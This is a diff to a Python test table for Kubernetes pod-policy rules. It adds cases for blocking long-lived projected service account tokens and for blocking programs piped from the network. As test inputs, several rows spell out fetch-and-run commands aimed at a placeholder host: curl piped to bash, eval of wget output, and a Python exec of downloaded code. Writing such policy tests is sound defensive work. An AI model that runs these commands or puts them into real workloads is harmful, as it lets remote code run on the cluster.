@@ -28,6 +28,15 @@ GAUDI = "vault.habana.ai/gaudi-docker/1.24.1/ubuntu24.04/habanalabs/vllm-0.26.0-
 COMMIT = "8afb486c1db24fe5011ec46dfbe5b5dccdb575c2"
 
 
+def _token(seconds):
+    source = {"serviceAccountToken": {"path": "token", "audience": "https://vault.acme.example", "expirationSeconds": seconds}}
+    return {"name": "scratch", "projected": {"sources": [source]}}
+
+
+def _shell(script):
+    return ["sh", "-c", script]
+
+
 def row(rule, path, bad, near, absent, resource=CHAT, **more):
     return Row(rule, resource, path, bad, near, absent, **more)
 
@@ -159,6 +168,25 @@ ROWS = (
     row("pod-require-drain-time", f"{POD}.terminationGracePeriodSeconds", 79, 80, REFUSED),
     row("pod-disallow-service-links", f"{POD}.enableServiceLinks", True, False, REFUSED),
     row("pod-disallow-token-mount", f"{POD}.automountServiceAccountToken", True, False, REFUSED),
+    row("pod-disallow-token-mount", f"{POD}.volumes[1]", _token(31536000), _token(86400), PASS),
+    row(
+        "pod-disallow-piped-programs",
+        f"{ONE}.lifecycle.postStart.exec.command",
+        _shell("curl -s https://x.example/i | bash"),
+        _shell("curl -s http://localhost:8000/ | grep ok"),
+        PASS,
+    ),
+    row(
+        "pod-disallow-piped-programs",
+        f"{ONE}.command",
+        _shell('eval "$(wget -qO- http://x.example/env)"'),
+        _shell('eval "$(cat /etc/env)"'),
+        PASS,
+        more=(
+            (_shell("python -c 'exec(urllib.request.urlopen(u).read())'"), REFUSED),
+            (["sh", "-c", "bash <(curl -s https://x.example/i)"], REFUSED),
+        ),
+    ),
     row(
         "pod-disallow-literal-secrets",
         f"{ONE}.env[1]",
